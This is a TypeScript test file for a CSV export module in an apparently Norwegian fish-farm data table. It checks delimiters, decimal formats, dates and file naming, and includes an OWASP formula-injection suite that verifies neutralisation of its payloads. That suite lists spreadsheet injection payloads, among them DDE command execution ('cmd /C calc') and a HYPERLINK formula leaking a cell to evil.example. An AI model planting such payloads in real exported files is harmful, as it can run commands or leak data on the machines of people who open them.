import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { resolveColumns, type DataTableColumn } from './columns.ts';
import { BYTE_ORDER_MARK, buildCsv, csvCell, csvFileName, neutraliseFormula } from './csv.ts';

interface Harvest {
  cage: string;
  harvestDate: string;
  count: number;
  avgWeight: number;
  biomass: number;
  change: number;
  note: string;
}

const rows: Harvest[] = [
  {
    cage: 'Merd 1 – Årøy',
    harvestDate: '2024-03-07',
    count: 52_310,
    avgWeight: 5.27,
    biomass: 275_673.7,
    change: -3.5,
    note: 'Ble slaktet; god kvalitet',
  },
  {
    cage: 'Merd 2 – Bømlo',
    harvestDate: '2024-11-28',
    count: 48_004,
    avgWeight: 4.815,
    biomass: 231_139.26,
    change: 12.25,
    note: '"Superior" 84 %',
  },
  {
    cage: 'Merd 3 – Ørsta',
    harvestDate: '2024-01-02',
    count: 0,
    avgWeight: 0,
    biomass: 0,
    change: -0.01,
    note: '=HYPERLINK("http://evil.example","klikk")',
  },
];

const columns: DataTableColumn<Harvest>[] = [
  { header: 'Merd', accessor: 'cage' },
  { header: 'Slaktedato', accessor: 'harvestDate', kind: 'date' },
  { header: 'Antall', accessor: 'count', kind: 'integer' },
  { header: 'Snittvekt (kg)', accessor: 'avgWeight', kind: 'decimal' },
  { header: 'Biomasse (kg)', accessor: 'biomass', kind: 'decimal' },
  { header: 'Endring', accessor: 'change', kind: 'decimal' },
  { header: 'Merknad', accessor: 'note' },
  { id: 'internal', header: 'Intern', accessor: () => 'secret', exported: false },
];

const texts = { yes: 'Ja', no: 'Nei' };
const resolved = resolveColumns(columns);

describe('buildCsv', () => {
  it('writes Norwegian CSV (semicolon, decimal comma, ISO yyyy-mm-dd dates, BOM) that papaparse reads back to the same numbers and dates', () => {
    const text = buildCsv({ rows, columns: resolved, locale: 'no', texts });
    expect(text.startsWith(BYTE_ORDER_MARK)).toBe(true);
    const parsed = Papa.parse<string[]>(text.slice(1), { delimiter: ';', skipEmptyLines: true });
    expect(parsed.errors).toEqual([]);
    const [header, ...body] = parsed.data;
    expect(header).toEqual(['Merd', 'Slaktedato', 'Antall', 'Snittvekt (kg)', 'Biomasse (kg)', 'Endring', 'Merknad']);
    expect(body).toHaveLength(rows.length);
    body.forEach((cells, index) => {
      const row = rows[index] as Harvest;
      expect(cells[0]).toBe(row.cage);
      expect(cells[1]).toBe(row.harvestDate);
      for (const [cell, value] of [
        [cells[2], row.count],
        [cells[3], row.avgWeight],
        [cells[4], row.biomass],
        [cells[5], row.change],
      ] as const) {
        expect(cell).not.toContain('.');
        expect(Number((cell as string).replace(',', '.'))).toBe(value);
      }
    });
    // The real negative numbers stay numbers, not neutralised text.
    expect(body[0]?.[5]).toBe('-3,5');
    expect(body[2]?.[5]).toBe('-0,01');
    // Text with the separator and quotes survives; the formula does not run.
    expect(body[0]?.[6]).toBe('Ble slaktet; god kvalitet');
    expect(body[1]?.[6]).toBe('"Superior" 84 %');
    expect(body[2]?.[6]).toBe(`'=HYPERLINK("http://evil.example","klikk")`);
    expect(text).not.toContain('secret');
  });

  it('writes English CSV with comma separators, decimal points and yyyy-mm-dd dates', () => {
    const text = buildCsv({ rows, columns: resolved, locale: 'en', texts });
    const parsed = Papa.parse<string[]>(text.slice(1), { delimiter: ',', skipEmptyLines: true, dynamicTyping: true });
    expect(parsed.errors).toEqual([]);
    const body = parsed.data.slice(1) as unknown as (string | number)[][];
    expect(body.map((cells) => cells[1])).toEqual(rows.map((row) => row.harvestDate));
    expect(body.map((cells) => cells.slice(2, 6))).toEqual(
      rows.map((row) => [row.count, row.avgWeight, row.biomass, row.change]),
    );
    expect(text.split('\r\n')[0]).toBe(
      `${BYTE_ORDER_MARK}Merd,Slaktedato,Antall,Snittvekt (kg),Biomasse (kg),Endring,Merknad`,
    );
  });

  it('exports the rows in the order given and honours hidden export columns', () => {
    const hiddenExported = resolveColumns<Harvest>([
      { header: 'Merd', accessor: 'cage' },
      { id: 'count', hidden: true, exported: true, accessor: 'count', kind: 'integer' },
      { header: 'Merknad', accessor: 'note', exported: false },
    ]);
    const text = buildCsv({
      rows: [rows[2] as Harvest, rows[0] as Harvest],
      columns: hiddenExported,
      locale: 'en',
      texts,
    });
    expect(text).toBe(`${BYTE_ORDER_MARK}Merd,count\r\nMerd 3 – Ørsta,0\r\nMerd 1 – Årøy,52310\r\n`);
  });
});

describe('formula injection (OWASP)', () => {
  const payloads = [
    '=1+1',
    "=cmd|' /C calc'!A0",
    '+41+1',
    '-2+3',
    '-cmd',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=1+1',
    '\r=1+1',
    '=HYPERLINK("http://evil.example?leak="&A1,"Error: click")',
    '+-@=',
    '-1+1',
    '-3,5=1',
  ];

  it.each(payloads)('neutralises %j', (payload) => {
    expect(neutraliseFormula(payload)).toBe(`'${payload}`);
    for (const locale of ['en', 'no'] as const) {
      const text = buildCsv({
        rows: [{ note: payload }],
        columns: resolveColumns<{ note: string }>([{ header: 'Note', accessor: 'note' }]),
        locale,
        texts,
      });
      const parsed = Papa.parse<string[]>(text.slice(1), { delimiter: locale === 'no' ? ';' : ',' });
      const cell = parsed.data[1]?.[0] as string;
      expect(cell).toBe(`'${payload}`);
      expect(/^[=+\-@\t\r]/.test(cell)).toBe(false);
    }
  });

  it('neutralises injection in headers too', () => {
    const text = buildCsv({
      rows: [],
      columns: resolveColumns<object>([{ id: 'x', header: '=2*3', accessor: () => 1 }]),
      locale: 'en',
      texts,
    });
    expect(text).toBe(`${BYTE_ORDER_MARK}'=2*3\r\n`);
  });

  it('leaves plain text and negative numbers alone', () => {
    for (const safe of ['Ålesund', 'PD (SAV3)', '-12', '-3.5', '-0,25', '12-14', 'a=b', '']) {
      expect(neutraliseFormula(safe)).toBe(safe);
    }
    expect(csvCell(-3.5, 'decimal', 'no', texts)).toBe('-3,5');
    expect(csvCell(-3.5, 'decimal', 'en', texts)).toBe('-3.5');
    expect(csvCell(-1200, 'integer', 'no', texts)).toBe('-1200');
  });

  it('writes booleans in the language and empty cells for missing values', () => {
    expect(csvCell(true, 'boolean', 'no', texts)).toBe('Ja');
    expect(csvCell(false, 'boolean', 'no', texts)).toBe('Nei');
    expect(csvCell(null, 'decimal', 'no', texts)).toBe('');
    expect(csvCell(Number.NaN, 'decimal', 'no', texts)).toBe('');
  });

  it("writes numbers with the column's decimals or measure (as shown), full precision otherwise", () => {
    expect(csvCell(200 / 9, 'percent', 'en', texts, { decimals: 0, measure: undefined })).toBe('22');
    expect(csvCell(4.1234, 'decimal', 'no', texts, { decimals: undefined, measure: 'weight' })).toBe('4,12');
    expect(csvCell(200 / 9, 'decimal', 'en', texts)).toBe('22.22222222222222');
  });
});

describe('buildCsv with measures', () => {
  it("rounds a column to its measure's decimals (weight 2) or its own (as shown)", () => {
    const text = buildCsv({
      rows: [{ weight: 4.5678, share: 12.345 }],
      columns: resolveColumns<{ weight: number; share: number }>([
        { header: 'Weight', accessor: 'weight', kind: 'decimal', measure: 'weight' },
        { header: 'Share', accessor: 'share', kind: 'percent', decimals: 0 },
      ]),
      locale: 'no',
      texts,
    });
    expect(text).toBe(`${BYTE_ORDER_MARK}Weight;Share\r\n4,57;12\r\n`);
  });
});

describe('csvFileName', () => {
  it('names files in the style farm-recommend-table.csv', () => {
    expect(csvFileName('farm-recommend-table')).toBe('farm-recommend-table.csv');
    expect(csvFileName('Farm Recommend Table')).toBe('farm-recommend-table.csv');
    expect(csvFileName('lab orders: Årøy / 2024.csv')).toBe('lab-orders-årøy-2024.csv');
    expect(csvFileName('  ')).toBe('table.csv');
  });
});
